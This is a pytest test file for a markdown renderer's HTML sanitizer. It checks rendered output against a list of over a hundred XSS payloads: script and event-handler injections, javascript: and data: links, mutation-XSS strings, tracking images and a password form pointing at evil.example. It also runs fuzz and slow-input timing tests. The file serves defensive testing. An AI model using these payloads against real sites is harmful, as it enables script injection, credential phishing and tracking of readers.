"""What people write is shown as they meant it, and nothing in it can run, fetch or pretend."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.markdown import ATTRIBUTES, CLASSES, LONGEST_PARAGRAPH, TAGS, _cleaner, render

SCRIPT = "alert(1)"
SCHEMES = ("http", "https", "mailto")
SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")
HOSTILE = [
    # elements that run or load
    f"<script>{SCRIPT}</script>", f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{SCRIPT}", f"<scr<script>ipt>{SCRIPT}</script>",
    f"<script\n>{SCRIPT}</script\n>", f"<script/x>{SCRIPT}</script>", f"\x00<scr\x00ipt>{SCRIPT}</script>",
    f"<<script>{SCRIPT}//<</script>",
    f"<script>{SCRIPT}", f"</title><script>{SCRIPT}</script>", f"</textarea><script>{SCRIPT}</script>", f"--><script>{SCRIPT}</script>",
    f"<!--><script>{SCRIPT}</script>-->", f"<![CDATA[<script>{SCRIPT}</script>]]>", f"<?xml ?><script>{SCRIPT}</script>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<applet code=x>", "<frameset onload=alert(1)>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>", "<portal src=//evil.example>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)>",
    "<video poster=//evil.example/x.png>", "<dialog open onclose=alert(1)>x</dialog>", "<isindex type=image src=1 onerror=alert(1)>",
    # handlers
    "<img src=x onerror=alert(1)>", "<img src=x ONERROR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror\n=alert(1)>",
    "<p onclick=alert(1)>x</p>", "<a onmouseover=alert(1)>x</a>", "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x'/></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<math href=javascript:alert(1)>x</math>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select onfocus=alert(1) autofocus>", "<keygen onfocus=alert(1) autofocus>", "<td onmouseover=alert(1)>x",
    "<label onclick=alert(1)>x</label>",
    # mutations on being parsed again
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<p title='`><img src=x onerror=alert(1)>'>", "<a title=\"x' onclick='alert(1)\">x</a>", "<img alt='\"><script>alert(1)</script>'>",
    # links
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)", "[x](\x01javascript:alert(1))", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]", "[x](https://a.example \"t' onclick=alert(1) '\")", "[x](https://a.example/\" onclick=alert(1) \")",
    "<a href='java&#x09;script:alert(1)'>x</a>", "<a href=' &#14; javascript:alert(1)'>x</a>", "<a href=javascript&#58;alert(1)>x</a>",
    "<a href=jav&#x0A;ascript:alert(1)>x</a>", "<a href='https://a.example' ping=//evil.example>x</a>",
    "<a href=https://a.example target=_top>x</a>",
    "<a href=https://a.example download rel=opener>x</a>", "<a href=blob:https://a.example/x>x</a>",
    "<a formaction=javascript:alert(1)>x</a>",
    # images that tell who reads
    "![x](https://evil.example/x.png)", "![x](//evil.example/x.png)", "![x](/\\evil.example/x.png)", "![x](data:image/png;base64,AAAA)",
    "![x](javascript:alert(1))", "![](https://evil.example/\"onerror=alert(1))", "![<script>alert(1)</script>](x)",
    "<img srcset='//evil.example/x 1x'>",
    "<img src='\t//evil.example/x.png'>", "<img src='/\t/evil.example/x.png'>", "<img src=/%5cevil.example lowsrc=//evil.example>",
    "[![x](https://evil.example/x.png)](javascript:alert(1))", "<picture><source srcset=//evil.example/x></picture>",
    # forms, styles, attributes that scripts of the page listen to
    "<form action=//evil.example><input name=password type=password><button>Sign in</button></form>",
    "<input type=image src=//evil.example/x.png>",
    "<button formaction=javascript:alert(1)>x</button>", "<textarea autofocus>x</textarea>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example'</style>", "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<b hx-get=/settings/ hx-trigger=load>x</b>", "<b data-hx-post=/features/ data-hx-trigger=load>x</b>", "<p hx-on:click=alert(1)>x</p>",
    "<a href=/x hx-boost=true>x</a>", "<p data-live=x data-live-src=//evil.example>x</p>", "<p class='toolbar is-open' id=main>x</p>",
    "<img name=cookie id=body src=/x>", "<p slot=x is=y part=z contenteditable accesskey=x tabindex=1 autofocus>x</p>",
    "<p aria-hidden=true role=alert>x</p>",
    "```\"onclick=alert(1)\nx\n```", "```x class=toolbar\nx\n```", "| <img src=x onerror=alert(1)> |\n|--|\n| <script>alert(1)</script> |",
    "- [x] <script>alert(1)</script>", "# <svg/onload=alert(1)>", "> <iframe src=//evil.example>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ud800<script>",
]  # fmt: skip


class Seen(HTMLParser):
    """Everything in a page that a browser would act on and we do not allow."""

    def __init__(self):
        super().__init__()
        self.faults, self.pieces = [], []

    def handle_endtag(self, tag):
        self.pieces.append(("/", tag))

    def handle_data(self, data):
        self.pieces.append(data)

    def handle_starttag(self, tag, attributes):
        self.pieces.append((tag, sorted(attributes)))
        if tag not in TAGS:
            self.faults.append(tag)
        for name, value in attributes:
            allowed = name in ATTRIBUTES.get(tag, ()) or (tag, name) in {("a", "rel"), ("input", "type"), ("input", "disabled")}
            wrong = {
                "href": lambda v: (scheme := SCHEME.match(re.sub(r"[\x00-\x20]", "", v))) and scheme[1].lower() not in SCHEMES,
                "src": lambda v: re.match(r"/(?![/\\])", re.sub(r"[\x00-\x20]", "", v)) is None,
                "class": lambda v: not all(CLASSES.fullmatch(word) for word in v.split()),
                "type": lambda v: v != "checkbox",
                "rel": lambda v: v != "noopener nofollow",
            }.get(name, lambda v: False)
            if not allowed or wrong(value or ""):
                self.faults.append((tag, name, value))
        if tag == "input" and dict(attributes).keys().isdisjoint({"disabled"}):
            self.faults.append("an input one can change")

    def handle_comment(self, data):
        self.faults.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def seen_in(html: str) -> Seen:
    seen = Seen()
    seen.feed(html)
    seen.close()
    return seen


def faults(html: str) -> list:
    return seen_in(html).faults


def pieces(html: str) -> list:
    """Elements, attributes and text in order; the order of attributes is the cleaner's whim."""
    return seen_in(html).pieces


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives(text):
    for context in ("{}", "Hello {} world", "- {}\n", "> {}", "<b>{}</b>", "[a]({})"):
        html = render(context.replace("{}", text))
        assert faults(html) == []


def test_there_are_a_hundred_hostile_texts():
    assert len(set(HOSTILE)) >= 100


PIECES = [
    "<", ">", "</", "/>", "script", "svg", "math", "style", "img", "a", "table", "title", " onerror=", " href=", " src=", "javascript:",
    "//x.y", "alert(1)", '"', "'", "`", "[", "]", "(", ")", "!", "\n", "&#106;", "&lt;", "<!--", "-->", "- [ ] ", "|", "|-|", "\x00",
    "hx-get=",
]  # fmt: skip


@settings(max_examples=600, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_no_mixture_of_hostile_pieces_survives(text):
    html = render(text)
    assert faults(html) == []
    assert pieces(_cleaner.clean(html)) == pieces(html)  # nothing waits for being parsed again


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Hello **you**, _dear_ ~~old~~ `friend`", "<p>Hello <strong>you</strong>, <em>dear</em> <s>old</s> <code>friend</code></p>\n"),
        ("# Goal\n\n###### Detail", "<h3>Goal</h3>\n<h6>Detail</h6>\n"),
        ("[a](/features/PAY-42/)", '<p><a href="/features/PAY-42/" rel="noopener nofollow">a</a></p>\n'),
        (
            "See https://a.example/b?c=1.",
            '<p>See <a href="https://a.example/b?c=1" rel="noopener nofollow">https://a.example/b?c=1</a>.</p>\n',
        ),
        ("![Plan](/files/7/)", '<p><img src="/files/7/" alt="Plan"></p>\n'),
        ("![Plan](https://a.example/p.png)", '<p><a href="https://a.example/p.png" rel="noopener nofollow">Plan</a></p>\n'),
        ("```python\na < b\n```", '<pre><code class="language-python">a &lt; b\n</code></pre>\n'),
        ("a <kbd>Ctrl</kbd> <u>b</u>", "<p>a <kbd>Ctrl</kbd> b</p>\n"),
        ("<!-- note -->\nText", "\n<p>Text</p>\n"),
        ("A List<String> for <your name>", "<p>A List&lt;String&gt; for &lt;your name&gt;</p>\n"),
        ("<div align=center>\n\nText\n\n</div>", "\n<p>Text</p>\n"),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n"),
        ("", ""),
    ],
)
def test_text_is_shown_as_it_was_meant(text, html):
    assert render(text) == html


def test_a_task_list_has_labelled_boxes_nobody_can_tick_here():
    html = render("- [x] Agreed\n- [ ] Priced")
    boxes = [dict(piece[1]) for piece in pieces(html) if piece[0] == "input"]
    assert boxes == [{"type": "checkbox", "disabled": "", "checked": "checked"}, {"type": "checkbox", "disabled": ""}]
    assert html.count("<label>") == 2
    assert html.startswith('<ul class="contains-task-list">')


def test_cells_are_aligned_without_styles():
    html = render("| Cost | Team |\n|--:|:-:|\n| 12 | Pay |")
    assert '<th align="right">Cost</th>' in html
    assert '<td align="center">Pay</td>' in html
    assert "style" not in html


@pytest.mark.parametrize(
    "piece",
    ["[", "![[](", "*a **a ", "<div>", "<a ", "&", "a@", "_a__b", "~~a", "|a", "> ", "- ", "https://", "<details><b>", "`` ` ", "a.\n"],
)
def test_a_text_made_to_take_long_does_not(piece):
    started = time.process_time()
    render(piece * (60_000 // len(piece)))
    assert time.process_time() - started < 2


def test_a_paragraph_nobody_writes_stands_as_its_text():
    assert render("**a** <b>" * 2_000) == "<p>\n" + "**a** &lt;b&gt;" * 2_000 + "</p>\n"
    assert LONGEST_PARAGRAPH < 2_000 * 9
